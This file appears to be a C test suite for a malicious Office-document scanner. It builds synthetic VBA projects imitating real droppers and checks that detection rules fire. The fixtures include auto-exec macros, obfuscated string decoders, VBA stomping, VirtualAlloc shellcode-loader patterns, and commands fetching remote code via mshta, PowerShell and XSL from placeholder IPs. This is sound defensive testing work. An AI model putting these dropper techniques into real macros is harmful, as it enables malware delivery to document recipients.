/* VBA projects as builders leave them: tampered dir streams, non-ASCII module names in the
 * project codepage, names differing in case, UserForm control strings, compiled code that only
 * looks stomped, and the call shapes and decoders that real droppers use. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "office/office.h"
#include "office/office_int.h"
#include "office_fixtures.h"

#include <iconv.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static eg_report *scan_nm(const eg_fx_module *m, const eg_fx_names *nm, size_t n, uint16_t cp,
                          const eg_fx_stream *extra, size_t n_extra, eg_fx_vba_layout layout,
                          const char *name)
{
    uint8_t *doc;
    size_t len;
    assert_int_equal(
        eg_fx_vba_document_ex(layout, m, nm, n, cp, extra, n_extra, NULL, 0, &doc, &len), EG_OK);
    eg_report *r = eg_fx_scan(name, doc, len, NULL, 0);
    free(doc);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    return r;
}

static eg_report *scan_ex(const eg_fx_module *m, size_t n, uint16_t cp, const eg_fx_stream *extra,
                          size_t n_extra, eg_fx_vba_layout layout, const char *name)
{
    return scan_nm(m, NULL, n, cp, extra, n_extra, layout, name);
}

/* UTF-8 to a codepage (test side only) */
static char *to_cp(const char *utf8, const char *cp)
{
    iconv_t cd = iconv_open(cp, "UTF-8");
    assert_true(cd != (iconv_t)-1);
    static char out[4][256];
    static int slot;
    char *o = out[slot++ % 4], *op = o, *ip = (char *)utf8;
    size_t il = strlen(utf8), ol = 255;
    assert_true(iconv(cd, &ip, &il, &op, &ol) != (size_t)-1);
    *op = '\0';
    iconv_close(cd);
    return o;
}

static const char AUTO_SHELL[] = "Private Sub Workbook_Open()\r\n"
                                 "  Shell \"cmd /c echo harmless\", 0\r\n"
                                 "End Sub\r\n";

static char *with_name(const char *vb_name, const char *body)
{
    static char buf[2][2048];
    static int slot;
    char *b = buf[slot++ % 2];
    snprintf(b, 2048, "Attribute VB_Name = \"%s\"\r\n%s", vb_name, body);
    return b;
}

/* the dir stream names "Module1" but the stream is called something else: found by its source */
static void test_tampered_dir(void **state)
{
    (void)state;
    eg_fx_module m[] = {{"Module1", with_name("Module1", AUTO_SHELL), false, NULL}};
    eg_fx_names nm[] = {{.dir_stream = "Module1", .stream = "Xq7zz"}};
    eg_report *r = scan_nm(m, nm, 1, 1252, NULL, 0, EG_FX_VBA_XLS, "t.xls");
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_true(eg_report_has_rule(r, "VBA.DIR_MISMATCH"));
    assert_false(eg_report_has_rule(r, "PARSE.ERROR"));
    eg_report_free(r);

    /* only the Unicode stream name is right */
    eg_fx_names un[] = {{.dir_stream = "Bogus", .dir_stream_u = "Module1"}};
    r = scan_nm(m, un, 1, 1252, NULL, 0, EG_FX_VBA_XLS, "u.xls");
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_false(eg_report_has_rule(r, "PARSE.ERROR"));
    eg_report_free(r);
}

/* Russian (CP1251), Portuguese (CP1252) and Japanese (CP932) module names */
static void test_codepage_names(void **state)
{
    (void)state;
    static const struct {
        const char *utf8, *cp;
        uint16_t code;
    } names[] = {{"ЭтаКнига", "CP1251", 1251},
                 {"Módulo1", "CP1252", 1252},
                 {"標準モジュール1", "CP932", 932}};
    for (size_t i = 0; i < 3; i++) {
        char *ansi = to_cp(names[i].utf8, names[i].cp);
        char *src = to_cp(with_name(names[i].utf8, AUTO_SHELL), names[i].cp);
        char srcbuf[2048];
        snprintf(srcbuf, sizeof srcbuf, "%s", src);
        /* the writer names the stream after unicode; the ANSI records carry the codepage bytes */
        eg_fx_module m[] = {{ansi, srcbuf, true, NULL}};
        eg_fx_names nu[] = {{.unicode = names[i].utf8}};
        eg_report *r = scan_nm(m, nu, 1, names[i].code, NULL, 0, EG_FX_VBA_XLS, "n.xls");
        assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
        assert_false(eg_report_has_rule(r, "PARSE.ERROR"));
        assert_false(eg_report_has_rule(r, "VBA.DIR_MISMATCH"));
        eg_report_free(r);
        /* without the Unicode records (older builders): the ANSI name decoded with the codepage */
        eg_fx_names na[] = {{.stream = names[i].utf8}};
        r = scan_nm(m, na, 1, names[i].code, NULL, 0, EG_FX_VBA_XLS, "a.xls");
        assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
        assert_false(eg_report_has_rule(r, "PARSE.ERROR"));
        eg_report_free(r);
    }
}

/* CFB names compare without case */
static void test_case_insensitive(void **state)
{
    (void)state;
    eg_fx_module m[] = {{"Module1", with_name("Module1", AUTO_SHELL), false, NULL}};
    eg_fx_names nm[] = {{.dir_stream = "MODULE1", .stream = "module1"}};
    eg_report *r = scan_nm(m, nm, 1, 1252, NULL, 0, EG_FX_VBA_DOC, "c.doc");
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_false(eg_report_has_rule(r, "VBA.DIR_MISMATCH"));
    assert_false(eg_report_has_rule(r, "PARSE.ERROR"));
    eg_report_free(r);
}

/* the ProgID in a control's Tag, the command in a text box, both read by the macro */
static void test_userform_strings(void **state)
{
    (void)state;
    eg_fx_control ctl[] = {
        {"TextBox1", 23, "WScript.Shell", NULL, NULL, NULL, NULL},
        {"TextBox2", 23, NULL, NULL, "cmd /c echo form-held command", NULL, NULL},
        {"Label1", 21, NULL, "tip text", NULL, "po|junk|wer|junk|shell", NULL},
        {"Opt1", 23, NULL, NULL, "0", NULL, "mshta|junk| http://192.0.2.5/x.hta"}};
    eg_buf f, o;
    eg_buf_init(&f, 0);
    eg_buf_init(&o, 0);
    eg_fx_oform(ctl, 4, &f, &o);
    eg_fx_stream extra[] = {{"UserForm1/f", f.data, f.len}, {"UserForm1/o", o.data, o.len}};
    eg_fx_module m[] = {
        {"ThisDocument",
         "Attribute VB_Name = \"ThisDocument\"\r\n"
         "Sub Document_Open()\r\n"
         "  Set o = CreateObject(UserForm1.TextBox1.Tag)\r\n"
         "  c = UserForm1.TextBox2.Text & \" & exit\"\r\n"
         "  p = Replace(UserForm1.Label1.Caption, \"|junk|\", \"\") & \" -c calc\"\r\n"
         "  g = Join(Split(UserForm1.Opt1.GroupName, \"|junk|\"), \"\")\r\n"
         "  o.Run c, 0\r\n"
         "End Sub\r\n",
         true, NULL},
        {"UserForm1", "Attribute VB_Name = \"UserForm1\"\r\n", true, NULL}};
    eg_report *r = scan_ex(m, 2, 1252, extra, 2, EG_FX_VBA_DOC, "f.doc");
    assert_true(eg_report_has_rule(r, "VBA.HIDDEN_PROGID"));
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    const char *dec = eg_fx_captured(EG_T_TEXT);
    assert_non_null(dec);
    assert_non_null(strstr(dec, "cmd /c echo form-held command"));
    assert_non_null(strstr(dec, "powershell -c calc"));
    assert_non_null(strstr(dec, "mshta http://192.0.2.5/x.hta"));
    eg_report_free(r);
    eg_buf_free(&f);
    eg_buf_free(&o);
}

/* a benign form reading its own label on Initialize: the caption is no decoded command */
static void test_userform_benign(void **state)
{
    (void)state;
    eg_fx_control ctl[] = {
        {"Label1", 21, NULL, NULL, NULL, "Shell Oil price list, run weekly", NULL}};
    eg_buf f, o;
    eg_buf_init(&f, 0);
    eg_buf_init(&o, 0);
    eg_fx_oform(ctl, 1, &f, &o);
    eg_fx_stream extra[] = {{"UserForm1/f", f.data, f.len}, {"UserForm1/o", o.data, o.len}};
    eg_fx_module m[] = {{"UserForm1",
                         "Attribute VB_Name = \"UserForm1\"\r\n"
                         "Private Sub UserForm_Initialize()\r\n"
                         "  t = UserForm1.Label1.Caption\r\n"
                         "  Me.Caption = t\r\n"
                         "End Sub\r\n",
                         true, NULL}};
    eg_report *r = scan_ex(m, 1, 1252, extra, 2, EG_FX_VBA_XLS, "prices.xls");
    assert_false(eg_report_has_rule(r, "VBA.EXECUTION"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    eg_buf_free(&f);
    eg_buf_free(&o);
}

/* the form parser on its own: names, tags, tip texts, values, captions */
typedef struct seen {
    char all[2048];
} seen;

static void collect(void *ud, const char *control, const char *prop, const char *val, size_t vlen)
{
    seen *s = ud;
    size_t l = strlen(s->all);
    snprintf(s->all + l, sizeof s->all - l, "%s.%s=%.*s;", control ? control : "Form", prop,
             (int)vlen, val);
}

static void test_oform_parse(void **state)
{
    (void)state;
    eg_fx_control ctl[] = {{"Abc", 23, "t1", "tip", "v1", "c1", "g1"},
                           {"Lbl22", 21, "tag2", NULL, NULL, "cap", NULL},
                           {"Btn", 17, NULL, NULL, NULL, "press", NULL}};
    eg_buf f, o;
    eg_buf_init(&f, 0);
    eg_buf_init(&o, 0);
    eg_fx_oform(ctl, 3, &f, &o);
    seen s = {{0}};
    assert_int_equal(eg_oform_parse(f.data, f.len, o.data, o.len, 1252, collect, &s), EG_OK);
    assert_string_equal(s.all, "Form.Zoom=100;Abc.Tag=t1;Abc.ControlTipText=tip;Abc.Value=v1;Abc."
                               "Caption=c1;Abc.GroupName=g1;"
                               "Lbl22.Tag=tag2;Lbl22.Caption=cap;Btn.Caption=press;");
    /* every truncation is read without harm */
    for (size_t n = 0; n < f.len; n++)
        eg_oform_parse(f.data, n, o.data, o.len, 1252, collect, &(seen){{0}});
    for (size_t n = 0; n < o.len; n++)
        eg_oform_parse(f.data, f.len, o.data, n, 1252, collect, &(seen){{0}});
    assert_int_equal(eg_oform_parse((const uint8_t *)"\x00\x02", 2, NULL, 0, 1252, collect, &s),
                     EG_EFORMAT);
    eg_buf_free(&f);
    eg_buf_free(&o);
}

static void test_decoder_functions(void **state)
{
    (void)state;
    eg_buf out;
    eg_buf_init(&out, 0);
    const char *src = "Function Dj(s)\r\n"
                      "  On Error Resume Next\r\n"
                      "  t = (s)\r\n"
                      "  Dj = Replace(t, \"Q)(q\", Unassigned1)\r\n"
                      "End Function\r\n"
                      "Function K(n As Integer)\r\n"
                      "K = Chr(n - 22)\r\n"
                      "End Function\r\n"
                      "Sub Go()\r\n"
                      "Dim a: a = \"wQ)(qinQ)(qmgmtQ)(q\" + ChrW(wdKeyS) + \":w\" & "
                      "VBA.ChrW(VBA.vbKeyI) & \"n32_pro\"\r\n"
                      "b = Dj(a + Nothing1 + \"cess\")\r\n"
                      "c = K(89) & K(99) & K(122) & K(109)\r\n"
                      "d = Join(Split(\"po~~we~~rshell\", \"~~\"), \"\")\r\n"
                      "e = Mid(\"xxcmd /c\", 3, 6) & LTrim(\"   dir\")\r\n"
                      "End Sub\r\n";
    eg_vba_decode_strings(src, strlen(src), &out);
    eg_buf_putc(&out, 0);
    const char *d = (const char *)out.data;
    if (getenv("EG_DUMP"))
        fprintf(stderr, "%s", d);
    assert_non_null(strstr(d, "winmgmtS:wIn32_process\n"));
    assert_non_null(strstr(d, "CMdW\n"));
    assert_non_null(strstr(d, "powershell\n"));
    assert_non_null(strstr(d, "cmd /cdir\n"));
    eg_buf_free(&out);

    /* a function calling itself is cut at the call depth; a huge body at the token budget */
    eg_buf_init(&out, 0);
    eg_buf big;
    eg_buf_init(&big, 0);
    const char *rec = "Function R(s)\r\nR = R(s & \"ab\") & R(s & \"cd\")\r\nEnd Function\r\n";
    eg_buf_append(&big, rec, strlen(rec));
    for (int i = 0; i < 3000; i++) {
        const char *l = "x = R(\"q\") & R(\"w\") & R(\"e\") & R(\"r\")\r\n";
        eg_buf_append(&big, l, strlen(l));
    }
    eg_vba_decode_strings((const char *)big.data, big.len, &out);
    eg_buf_free(&big);
    eg_buf_free(&out);
}

/* the command hidden in the document's own text, read through StoryRanges and cut with Mid */
static void test_document_text(void **state)
{
    (void)state;
    eg_buf w, t;
    eg_buf_init(&w, 0);
    eg_buf_init(&t, 0);
    eg_fx_word_text("junkcmd /c ec!!ho text-held com!!mand\r", &w, &t);
    eg_fx_stream extra[] = {{"/WordDocument", w.data, w.len}, {"/1Table", t.data, t.len}};
    eg_fx_module m[] = {{"ThisDocument",
                         "Attribute VB_Name = \"ThisDocument\"\r\n"
                         "Sub Document_Open()\r\n"
                         "  s = ThisDocument.StoryRanges.Item(4 / 4)\r\n"
                         "  c = Replace(Mid(s, 5, Len(s) - 5), \"!!\", \"\")\r\n"
                         "  p = ActiveDocument.Content.Text\r\n"
                         "End Sub\r\n",
                         true, NULL}};
    eg_report *r = scan_ex(m, 1, 1252, extra, 2, EG_FX_VBA_DOC, "d.doc");
    const char *dec = eg_fx_captured(EG_T_TEXT);
    assert_non_null(dec);
    assert_non_null(strstr(dec, "cmd /c echo text-held command"));
    eg_report_free(r);
    eg_buf_free(&w);
    eg_buf_free(&t);

    /* a manual that mentions PowerShell, read whole by an auto-exec macro: no execution */
    eg_buf_init(&w, 0);
    eg_buf_init(&t, 0);
    eg_fx_word_text("To update, open PowerShell and run the script from the IT portal.\r", &w, &t);
    eg_fx_stream ex2[] = {{"/WordDocument", w.data, w.len}, {"/1Table", t.data, t.len}};
    eg_fx_module m2[] = {{"ThisDocument",
                          "Attribute VB_Name = \"ThisDocument\"\r\n"
                          "Sub Document_Open()\r\n"
                          "  s = ActiveDocument.Content.Text\r\n"
                          "  c = Mid(s, 1, Len(s) - 1)\r\n"
                          "  MsgBox Trim(c)\r\n"
                          "End Sub\r\n",
                          true, NULL}};
    r = scan_ex(m2, 1, 1252, ex2, 2, EG_FX_VBA_DOC, "manual.doc");
    assert_false(eg_report_has_rule(r, "VBA.EXECUTION"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    eg_buf_free(&w);
    eg_buf_free(&t);
}

/* the same in a .docm: the project is vbaProject.bin, the text is word/document.xml's */
static uint8_t *docm_with_text(const char *doc_xml, size_t *len)
{
    eg_fx_module m[] = {{"ThisDocument",
                         "Attribute VB_Name = \"ThisDocument\"\r\n"
                         "Sub Document_Open()\r\n"
                         "  s = ActiveDocument.Content.Text\r\n"
                         "  c = Replace(s, \"!!\", \"\")\r\n"
                         "  CreateObject(\"WScript.Shell\").Run c, 0\r\n"
                         "End Sub\r\n",
                         true, NULL}};
    uint8_t *bin = NULL;
    size_t binlen = 0;
    assert_int_equal(eg_fx_vba_document(EG_FX_VBA_BIN, m, 1, 1252, NULL, 0, &bin, &binlen), EG_OK);
    eg_fx_part p[] = {
        {"[Content_Types].xml",
         "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
         "content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/"
         "vnd.ms-word.document.macroEnabled.main+xml\"/></Types>",
         0},
        {"word/document.xml", doc_xml, 0},
        {"word/vbaProject.bin", (const char *)bin, binlen},
    };
    uint8_t *z = NULL;
    assert_int_equal(eg_fx_zip_stored(p, 3, &z, len), EG_OK);
    free(bin);
    return z;
}

static void test_document_text_docm(void **state)
{
    (void)state;
    size_t len;
    uint8_t *z = docm_with_text("<w:document><w:body><w:p><w:r><w:t>cmd /c ec!!ho "
                                "docm-held com!!mand</w:t></w:r></w:p></w:body></w:document>",
                                &len);
    eg_report *r = eg_fx_scan("d.docm", z, len, NULL, 0);
    free(z);
    const char *dec = eg_fx_captured(EG_T_TEXT);
    assert_non_null(dec);
    assert_non_null(strstr(dec, "cmd /c echo docm-held command"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

static void test_stomping_control_name(void **state)
{
    (void)state;
    /* the compiled copy of a control called HTTPulc carries one byte more: not stomping */
    eg_fx_module m[] = {{"UserForm1",
                         "Attribute VB_Name = \"UserForm1\"\r\n"
                         "Attribute VB_Control = \"HTTPulc, 0, 0, MSForms, TextBox\"\r\n"
                         "Sub Workbook_Open()\r\nEnd Sub\r\n",
                         true, "\x01\x02HTTPulcz\x03\x04"}};
    eg_report *r = scan_ex(m, 1, 1252, NULL, 0, EG_FX_VBA_XLS, "h.xls");
    assert_false(eg_report_has_rule(r, "VBA.STOMPING"));
    eg_report_free(r);
    /* real stomping with an auto-exec decoy: suspicious, never malicious on that alone */
    eg_fx_module s[] = {
        {"Module1",
         "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nMsgBox \"hi\"\r\nEnd Sub\r\n", false,
         "\x01\x02powershell -enc AAAA http://203.0.113.4/\x03"}};
    r = scan_ex(s, 1, 1252, NULL, 0, EG_FX_VBA_DOC, "s.doc");
    assert_true(eg_report_has_rule(r, "VBA.STOMPING"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_SUSPICIOUS);
    eg_report_free(r);
}

static void test_call_shapes(void **state)
{
    (void)state;
    static const struct {
        const char *body, *rule;
    } cases[] = {
        /* the ProgID is built somewhere unknown: the Create call with ShowWindow still runs a
           process */
        {"Sub Document_Open()\r\n"
         "Set st = GetObject(Pieces1 & Pieces2)\r\n"
         "st.ShowWindow = 0\r\n"
         "Set p = GetObject(Pieces3)\r\n"
         "Do While p.Create(cmdline, Null, st, pid)\r\nLoop\r\nEnd Sub\r\n",
         "VBA.AUTOEXEC_EXECUTION"},
        {"Sub AutoOpen()\r\nCreateObject(Fetch()).Run cmdline, vbHide\r\nEnd Sub\r\n",
         "VBA.AUTOEXEC_EXECUTION"},
        {"Sub AutoOpen()\r\nSet o = CreateObject(Fetch())\r\nSet x = o.Exec(cmdline)\r\nEnd "
         "Sub\r\n",
         "VBA.AUTOEXEC_EXECUTION"},
        {"Sub AutoOpen()\r\nSet h = CreateObject(Fetch())\r\nh.Open \"GET\", u, False\r\nh.Send\r\n"
         "b = h.responseBody\r\nEnd Sub\r\n",
         "VBA.DOWNLOAD"},
        {"Sub AutoOpen()\r\nStyle_1 = 0\r\nSet o = CreateObject(Fetch())\r\no.Run cmdline, "
         "Style_1\r\nEnd Sub\r\n",
         "VBA.AUTOEXEC_EXECUTION"},
        {"Private Declare PtrSafe Function Va Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a As "
         "LongPtr, ByVal b As "
         "Long, ByVal c As Long, ByVal d As Long) As LongPtr\r\n"
         "Private Declare PtrSafe Function Mv Lib \"kernel32\" Alias \"RtlMoveMemory\" (ByVal a As "
         "LongPtr, ByRef b As "
         "Any, ByVal c As Long) As LongPtr\r\n"
         "Private Declare PtrSafe Function Loc Lib \"kernel32\" Alias \"EnumSystemLocalesA\" "
         "(ByVal a As LongPtr, "
         "ByVal b As Long) As Long\r\n"
         "Sub AutoOpen()\r\nm = Va(0, 4096, &H3000, &H40)\r\nMv m, buf(0), 4096\r\nLoc m, 0\r\nEnd "
         "Sub\r\n",
         "VBA.INJECTION"},
        /* a native-code loader: memory allocated and written, the code reached through
           GetProcAddress pointers placed in a fake COM vtable (no thread, no callback API) */
        {"Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr, "
         "ByVal b As LongPtr, ByVal c As Long, ByVal d As Long) As LongPtr\r\n"
         "Private Declare PtrSafe Function GetProcAddress Lib \"kernel32\" (ByVal m As LongPtr, "
         "ByVal p As String) As LongPtr\r\n"
         "Private Declare PtrSafe Sub CopyMemory Lib \"kernel32\" Alias \"RtlMoveMemory\" (ByRef "
         "d As Any, ByRef s As Any, ByVal n As LongPtr)\r\n"
         "Public Sub Auto_Open()\r\nm = VirtualAlloc(0, Len(code), &H3000, &H40)\r\n"
         "CopyMemory ByVal m, ByVal code, Len(code)\r\nEnd Sub\r\n",
         "VBA.INJECTION"},
        {"Sub AutoOpen()\r\nSet x = CreateObject(\"MSXML2.DOMDocument\")\r\nx.async = False\r\n"
         "x.Load \"http://192.0.2.9/s.xsl\"\r\nx.transformNode x\r\nEnd Sub\r\n",
         "VBA.XSL_TRANSFORM"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        eg_fx_module m[] = {{"ThisDocument", with_name("ThisDocument", cases[i].body), true, NULL}};
        eg_report *r = scan_ex(m, 1, 1252, NULL, 0, EG_FX_VBA_DOC, "c.doc");
        if (!eg_report_has_rule(r, cases[i].rule))
            fail_msg("case %zu: no %s", i, cases[i].rule);
        assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
        eg_report_free(r);
    }
    /* Excel's Application.Run of a macro name is no execution */
    eg_fx_module b[] = {
        {"ThisWorkbook",
         with_name("ThisWorkbook",
                   "Private Sub Workbook_Open()\r\nApplication.Run \"Refresh\"\r\nEnd Sub\r\n"),
         true, NULL}};
    eg_report *r = scan_ex(b, 1, 1252, NULL, 0, EG_FX_VBA_XLS, "b.xls");
    assert_false(eg_report_has_rule(r, "VBA.EXECUTION"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_tampered_dir),          cmocka_unit_test(test_codepage_names),
        cmocka_unit_test(test_case_insensitive),      cmocka_unit_test(test_userform_strings),
        cmocka_unit_test(test_oform_parse),           cmocka_unit_test(test_decoder_functions),
        cmocka_unit_test(test_stomping_control_name), cmocka_unit_test(test_call_shapes),
        cmocka_unit_test(test_document_text),         cmocka_unit_test(test_document_text_docm),
        cmocka_unit_test(test_userform_benign),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
